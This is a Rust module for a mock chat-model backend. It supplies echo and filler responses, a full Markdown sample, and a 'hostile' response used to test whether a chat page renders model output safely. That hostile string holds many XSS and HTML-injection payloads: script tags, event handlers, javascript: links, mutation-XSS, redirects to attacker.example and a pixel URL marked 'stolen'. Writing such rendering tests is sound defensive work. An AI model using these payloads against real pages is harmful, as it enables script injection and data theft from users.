//! What the mock's models say.

/// The person's own words.
pub(super) fn echo(asked: &str) -> String {
    let asked = asked.trim();
    if asked.is_empty() { "You said nothing.".to_owned() } else { format!("You said: {asked}") }
}

const SENTENCES: [&str; 12] = [
    "A house is built from the ground up, and explained from the door in.",
    "The river does not hurry, and yet everything in it arrives.",
    "Bread is flour, water, salt and the patience to leave it alone.",
    "Maps leave out almost everything; that is what makes them useful.",
    "A lighthouse is a promise that somebody keeps at night.",
    "Every good letter begins with the weather and ends with a wish.",
    "Two people who repair a bicycle together rarely quarrel on the same day.",
    "The library closes at six, but the questions stay open.",
    "Rain on a tin roof is the oldest kind of music.",
    "A garden teaches arithmetic: you plant in hope and harvest in fact.",
    "Clocks agree only because we ask them to.",
    "What is worth doing is worth writing down in short sentences.",
];

/// Six paragraphs of harmless prose; the question decides where they begin.
pub(super) fn lorem(asked: &str) -> String {
    let start = asked.bytes().fold(0_usize, |sum, byte| (sum * 31 + usize::from(byte)) % SENTENCES.len());
    let sentence = |at: usize| SENTENCES[(start + at) % SENTENCES.len()];
    let paragraphs: Vec<String> =
        (0..6).map(|paragraph| [0, 1, 2].map(|at| sentence(paragraph * 5 + at)).join(" ")).collect();
    paragraphs.join("\n\n")
}

/// Every format an answer can have.
pub(super) const MARKDOWN: &str = r#"# A heading

Plain text with **bold**, *italic*, ~~struck~~ and `inline code`, and a [link to somewhere](https://example.com/page "a title").

## A table

| Fruit   | Weight (g) | Price  |
|:--------|-----------:|:------:|
| Apple   |        182 | $0.40  |
| Banana  |        118 | $0.25  |
| Cherry  |          8 | $0.05  |

## Lists

1. First
2. Second
   - an inner point
   - another one
3. Third

- [x] done
- [ ] to do

> A quotation, which
> goes over two lines.
>
> > And one inside it.

## Code

```rust
/// Adds what it is given.
fn sum(numbers: &[i64]) -> i64 {
    numbers.iter().sum() // no overflow check
}
```

```python
def greet(name: str) -> str:
    return f"Hello, {name}!"
```

```
no language, <b>no tags</b> & no colours
```

---

A line with a footnote-like mark[^1], an emoji 🌱, right-to-left שלום, and a very long word:
Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft.

[^1]: Which stands here.
"#;

/// Bytes of one word without a gap, as a single delta.
const HUGE: usize = 256 * 1024;

/// What a model that wants to harm the page would say. Shown, all of it has to be text.
pub(super) fn hostile() -> String {
    let mut text = String::from(
        r#"# Hostile

<script>window.mockWasHere = 'script'</script>
<img src=x onerror="window.mockWasHere='onerror'">
<svg onload="window.mockWasHere='onload'"><animate onbegin="window.mockWasHere='onbegin'"/></svg>
<iframe srcdoc="<script>parent.mockWasHere='srcdoc'</script>"></iframe>
<style>body{display:none}</style><link rel="stylesheet" href="https://attacker.example/x.css">
<form action="https://attacker.example/"><input name=q autofocus onfocus="window.mockWasHere='onfocus'"></form>
</div></main></body><base href="https://attacker.example/"><meta http-equiv="refresh" content="0;url=https://attacker.example/">
<a href="javascript:window.mockWasHere='href'" onclick="window.mockWasHere='onclick'" style="position:fixed;inset:0">a</a>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.mockWasHere='mutation'&gt;">

[a link](javascript:window.mockWasHere='link') [another](JaVaScRiPt&colon;window.mockWasHere='entity')
[data](data:text/html,<script>alert(1)</script>) [vb](vbscript:msgbox(1)) <javascript:alert(1)>
![a remote picture](https://attacker.example/pixel.png?stolen=1) ![script](javascript:alert(1))
[reference][r] ![reference][p]

[r]: javascript:window.mockWasHere='reference'
[p]: https://attacker.example/reference.png

"#,
    );
    text.push_str("Directions: \u{202e}gnirts desrever\u{202c} Hidden: \u{200b}\u{2060}\u{feff} Control: \u{1b}[31m\u{7}\u{8} NUL: \u{0} Replacement: \u{fffd}\n\n");
    text.push_str("| a | b |\n|---|---|\n| <script>window.mockWasHere='cell'</script> | `</code><script>1</script>` |\n\n");
    text.push_str(&"> ".repeat(200));
    text.push_str("deep\n\n");
    text.push_str(&"[".repeat(2_000));
    text.push_str("\n\nhuge: ");
    text.push_str(&"A".repeat(HUGE));
    // Never closed.
    text.push_str("\n\n```html\n</code></pre><script>window.mockWasHere='fence'</script>\n");
    text
}
